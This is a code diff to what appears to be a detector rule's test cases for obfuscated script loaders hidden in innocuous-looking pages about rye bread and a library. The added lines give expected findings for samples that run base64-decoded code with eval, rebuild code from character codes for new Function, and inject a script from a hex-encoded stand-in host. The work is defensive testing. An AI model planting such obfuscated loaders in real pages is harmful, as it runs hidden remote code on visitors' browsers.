@@ -112,15 +112,21 @@ export default rule({
   examples: () => ({
     hit: [
       examplePage('a loader in base64', {
+        found: { says: ['loads_file'], quotes: ['eval(atob("KGZ1bmN0aW9uKCl7dmFyIHM9ZG9jdW1lbnQuY3J'] },
         title: 'How to bake rye bread',
         body: `${paragraphs(...BREAD)}<script>eval(atob("${btoa(EXAMPLE_LOADER)}"));</script>`,
       }),
       examplePage('a loader as character codes', {
+        found: { says: ['runs_decoded'], quotes: ['Function(r)'] },
         title: 'Chleb żytni',
         lang: 'pl',
         body: `${paragraphs(...CHLEB)}<script>var c=[${[...EXAMPLE_LOADER].map((sign) => sign.charCodeAt(0)).join(',')}];var r="";for(var i=0;i<c.length;i++){r+=String.fromCharCode(c[i]);}(new Function(r))();</script>`,
       }),
       examplePage('an address in hex behind a script element', {
+        found: {
+          says: ['loads_file'],
+          quotes: ['e.src="\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x74\\x72\\x6'],
+        },
         title: 'Library stays open',
         body: `${paragraphs(...LIBRARY)}<script>var d=document,e=d.createElement("script");e.src="${[...'https://track-js-cdn.top/a.js'].map((sign) => `\\x${sign.charCodeAt(0).toString(16)}`).join('')}";d.head.appendChild(e);</script>`,
       }),
